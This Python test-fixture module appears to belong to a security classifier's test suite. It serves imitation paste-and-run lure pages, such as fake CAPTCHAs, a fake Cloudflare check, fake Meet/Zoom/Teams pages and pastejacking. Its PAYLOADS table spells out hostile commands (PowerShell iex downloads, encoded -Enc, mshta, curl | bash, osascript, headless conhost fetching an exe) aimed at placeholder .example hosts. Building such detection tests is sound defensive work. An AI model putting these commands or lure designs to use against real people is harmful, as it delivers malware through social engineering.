"""Paste-and-run lures (ClickFix, fake CAPTCHAs, fake meeting apps) and their look-alikes.

Each lure reproduces a campaign seen in the wild: a fake Google reCAPTCHA that fills the
clipboard only once "I'm not a robot" is ticked; a fake Cloudflare "Just a moment..." that
writes an encoded PowerShell command on load; a fake Google Meet "microphone blocked" popup
whose "Try fix" copies an mshta command; fake Zoom / Teams interview pages pushing an
"update"; macOS pages asking to paste into Terminal (curl | bash, osascript, base64); a
"Word Online" error copying its "fix" through a hidden textarea and execCommand('copy'); a
pastejacking "DNS fix" article whose copy handler swaps the shown command; a headless-conhost
command hidden behind a fake "reCAPTCHA Verification ID" comment.

``PAYLOADS`` holds the exact text each page writes (tests compare the recorded clipboard to
it); the payload hosts (*.example) are never fetched. Hard negatives: a library's install
page with a "Copy" button, a rustup-style ``curl ... | sh`` from the tool's own domain, and a
genuine human check that writes nothing.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import html
import json
import struct

from aiohttp import web

from tests.testweb.corpus import Sample
from tests.testweb.render import page
from tests.testweb.routes import Handler, Routes

routes = Routes()


def _ps_encoded(script: str) -> str:
    """PowerShell's -EncodedCommand form: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


CLOUDFLARE_INNER = (
    "$u='https://clearance-cdn.example/cf/ray.ps1';"
    "iex (New-Object Net.WebClient).DownloadString($u)"
)
BASE64_INNER = "curl -fsSL https://files-cdn.example/macos/viewer-update.sh | bash"

PAYLOADS: dict[str, str] = {
    "lure-recaptcha-click": (
        'powershell -NoProfile -WindowStyle Hidden -Command "iex (iwr '
        "'https://recaptcha-cdn.example/verify/v2.ps1' -UseBasicParsing).Content\""
    ),
    "lure-cloudflare-enc": f"powershell -NoP -W H -Enc {_ps_encoded(CLOUDFLARE_INNER)}",
    "lure-meet-mshta": "mshta https://meet-support.example/mic/repair.hta",
    "lure-macos-terminal": (
        '/bin/bash -c "$(curl -fsSL https://mac-verify-cdn.example/cf/install.sh)"'
    ),
    "lure-macos-osascript": (
        "osascript -e 'do shell script \"curl -s https://safari-update.example/upd | sh\"'"
    ),
    "lure-base64-bash": (
        f"echo {base64.b64encode(BASE64_INNER.encode()).decode()} | base64 -d | bash"
    ),
    "lure-word-execcommand": (
        'powershell -w 1 -c "$d=(New-Object Net.WebClient).DownloadString('
        "'https://onedrive-viewer.example/doc/view.txt');iex $d\""
    ),
    "lure-copy-event": (
        "ipconfig /flushdns & powershell -w h -nop -c "
        '"irm https://dnsfix-tools.example/flush.ps1 | iex"'
    ),
    "lure-conhost-id": (
        'conhost --headless cmd /c "curl -s -o %TEMP%\\vc.exe '
        'https://hcaptcha-verify.example/vc.exe && start "" %TEMP%\\vc.exe"'
        " # ✅ I am not a robot - reCAPTCHA Verification ID: 4821"
    ),
    "benign-docs-pip": "pip install requests",
    "benign-docs-rustup": "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustlang.test | sh",
}

# What each lure's payload would fetch, as the classifier must extract it.
PAYLOAD_URLS: dict[str, list[str]] = {
    "lure-recaptcha-click": ["https://recaptcha-cdn.example/verify/v2.ps1"],
    "lure-cloudflare-enc": ["https://clearance-cdn.example/cf/ray.ps1"],
    "lure-meet-mshta": ["https://meet-support.example/mic/repair.hta"],
    "lure-macos-terminal": ["https://mac-verify-cdn.example/cf/install.sh"],
    "lure-macos-osascript": ["https://safari-update.example/upd"],
    "lure-base64-bash": ["https://files-cdn.example/macos/viewer-update.sh"],
    "lure-word-execcommand": ["https://onedrive-viewer.example/doc/view.txt"],
    "lure-copy-event": ["https://dnsfix-tools.example/flush.ps1"],
    "lure-conhost-id": ["https://hcaptcha-verify.example/vc.exe"],
}

# Installers the fake meeting apps push: sample name -> (file name, content type).
INSTALLERS: dict[str, tuple[str, str]] = {
    "lure-zoom-update": ("ZoomInstallerFull.exe", "application/x-msdownload"),
    "lure-teams-interview": ("Teams-Update.dmg", "application/x-apple-diskimage"),
}

CORPUS: list[Sample] = [
    Sample(
        "lure-recaptcha-click",
        "recaptcha-verify.test",
        label="paste-and-run",
        note="fake reCAPTCHA; clipboard written only after 'I'm not a robot' is clicked",
    ),
    Sample(
        "lure-cloudflare-enc",
        "cf-clearance.test",
        label="paste-and-run",
        note="fake Cloudflare 'Just a moment...'; PowerShell -Enc written on load",
    ),
    Sample(
        "lure-meet-mshta",
        "meet-google.test",
        "/xqd-hmpr-wcb",
        label="paste-and-run",
        note="fake Google Meet 'microphone blocked'; 'Try fix' copies an mshta command",
    ),
    Sample(
        "lure-zoom-update",
        "zoom-interview.test",
        "/j/84120937315",
        label="paste-and-run",
        note="fake Zoom interview 'update required'; pushes ZoomInstallerFull.exe",
    ),
    Sample(
        "lure-teams-interview",
        "teams-interview.test",
        "/assessment/7f3c9a",
        label="paste-and-run",
        note="fake Teams interview assessment; camera 'fix' pushes Teams-Update.dmg",
    ),
    Sample(
        "lure-macos-terminal",
        "mac-verify.test",
        label="paste-and-run",
        note="macOS 'verify you are human': Cmd+Space, Terminal, paste; bash -c $(curl)",
    ),
    Sample(
        "lure-macos-osascript",
        "mac-verify.test",
        "/safari-update",
        label="paste-and-run",
        note="fake Safari security update; osascript via clipboard.write(ClipboardItem)",
    ),
    Sample(
        "lure-base64-bash",
        "file-access.test",
        "/shared/Q3-payroll.pdf",
        label="paste-and-run",
        note="restricted-file page; echo <base64> | base64 -d | bash",
    ),
    Sample(
        "lure-word-execcommand",
        "word-online.test",
        "/view/Invoice_0923.docx",
        label="paste-and-run",
        note="'Word Online' extension error; 'How to fix' copies via hidden textarea",
    ),
    Sample(
        "lure-copy-event",
        "dns-fix.test",
        "/fix-dns-probe-finished-nxdomain",
        label="paste-and-run",
        note="pastejacking: copy handler replaces 'ipconfig /flushdns' with PowerShell",
    ),
    Sample(
        "lure-conhost-id",
        "hcaptcha-check.test",
        label="paste-and-run",
        note="conhost --headless cmd behind a fake 'reCAPTCHA Verification ID' comment",
    ),
    Sample(
        "benign-docs-pip",
        "requests-docs.test",
        "/en/latest/user/install/",
        hard_negative=True,
        note="library install docs; the Copy button writes 'pip install requests'",
    ),
    Sample(
        "benign-docs-rustup",
        "rustlang.test",
        "/tools/install",
        hard_negative=True,
        note="curl | sh installer served from the tool's own domain",
    ),
    Sample(
        "benign-verify-human",
        "forum-check.test",
        hard_negative=True,
        note="a genuine 'verify you are human' interstitial: writes nothing to the clipboard",
    ),
]


def _js(name: str) -> str:
    """A payload as a JavaScript string literal (inside a <script>)."""
    return json.dumps(PAYLOADS[name])


def _lure(template: str, sample: str) -> Handler:
    """A lure page with its payload, as a script literal and as HTML text."""

    async def handler(request: web.Request) -> web.StreamResponse:
        return page(
            request,
            template,
            payload=_js(sample),
            payload_html=html.escape(PAYLOADS[sample]),
        )

    return handler


for _name, _host, _path, _template in [
    ("lure-recaptcha-click", "recaptcha-verify.test", "/", "lure-recaptcha.html"),
    ("lure-cloudflare-enc", "cf-clearance.test", "/", "lure-cloudflare.html"),
    ("lure-meet-mshta", "meet-google.test", "/xqd-hmpr-wcb", "lure-meet.html"),
    ("lure-macos-terminal", "mac-verify.test", "/", "lure-macos.html"),
    ("lure-macos-osascript", "mac-verify.test", "/safari-update", "lure-safari.html"),
    ("lure-base64-bash", "file-access.test", "/shared/Q3-payroll.pdf", "lure-file-access.html"),
    ("lure-word-execcommand", "word-online.test", "/view/Invoice_0923.docx", "lure-word.html"),
    ("lure-copy-event", "dns-fix.test", "/fix-dns-probe-finished-nxdomain", "lure-dnsfix.html"),
    ("lure-conhost-id", "hcaptcha-check.test", "/", "lure-hcaptcha.html"),
    ("benign-docs-pip", "requests-docs.test", "/en/latest/user/install/", "lure-docs-pip.html"),
    ("benign-docs-rustup", "rustlang.test", "/tools/install", "lure-docs-rustup.html"),
]:
    routes.route(_host, _path)(_lure(_template, _name))


@routes.route("forum-check.test", "/")
async def human_check(request: web.Request) -> web.Response:
    return page(request, "lure-human-check.html")


@routes.route("zoom-interview.test", "/j/84120937315")
async def zoom_update(request: web.Request) -> web.Response:
    return page(request, "lure-zoom.html", installer="/download/ZoomInstallerFull.exe")


@routes.route("teams-interview.test", "/assessment/7f3c9a")
async def teams_assessment(request: web.Request) -> web.Response:
    return page(request, "lure-teams.html", installer="/download/Teams-Update.dmg")


@routes.route("zoom-interview.test", "/download/ZoomInstallerFull.exe")
async def zoom_installer(request: web.Request) -> web.Response:
    return _attachment("lure-zoom-update")


@routes.route("teams-interview.test", "/download/Teams-Update.dmg")
async def teams_installer(request: web.Request) -> web.Response:
    return _attachment("lure-teams-interview")


def _attachment(sample: str) -> web.Response:
    name, content_type = INSTALLERS[sample]
    return web.Response(
        body=installer_bytes(name),
        content_type=content_type,
        headers={"Content-Disposition": f'attachment; filename="{name}"'},
    )


@functools.cache
def installer_bytes(name: str) -> bytes:
    """What a fake installer's download holds: 8 KiB with the file type's magic bytes (an MZ
    header and PE signature for .exe, a UDIF "koly" trailer for .dmg), not a runnable
    program; the same bytes every time."""
    filler = b"".join(hashlib.sha256(b"%s:%d" % (name.encode(), i)).digest() for i in range(256))
    if name.endswith(".exe"):
        header = bytearray(0x80)
        header[0:2] = b"MZ"
        struct.pack_into("<I", header, 0x3C, 0x80)
        return bytes(header) + b"PE\0\0" + filler[: 8192 - 0x84]
    trailer = b"koly" + struct.pack(">II", 4, 512) + bytes(500)
    return filler[: 8192 - len(trailer)] + trailer
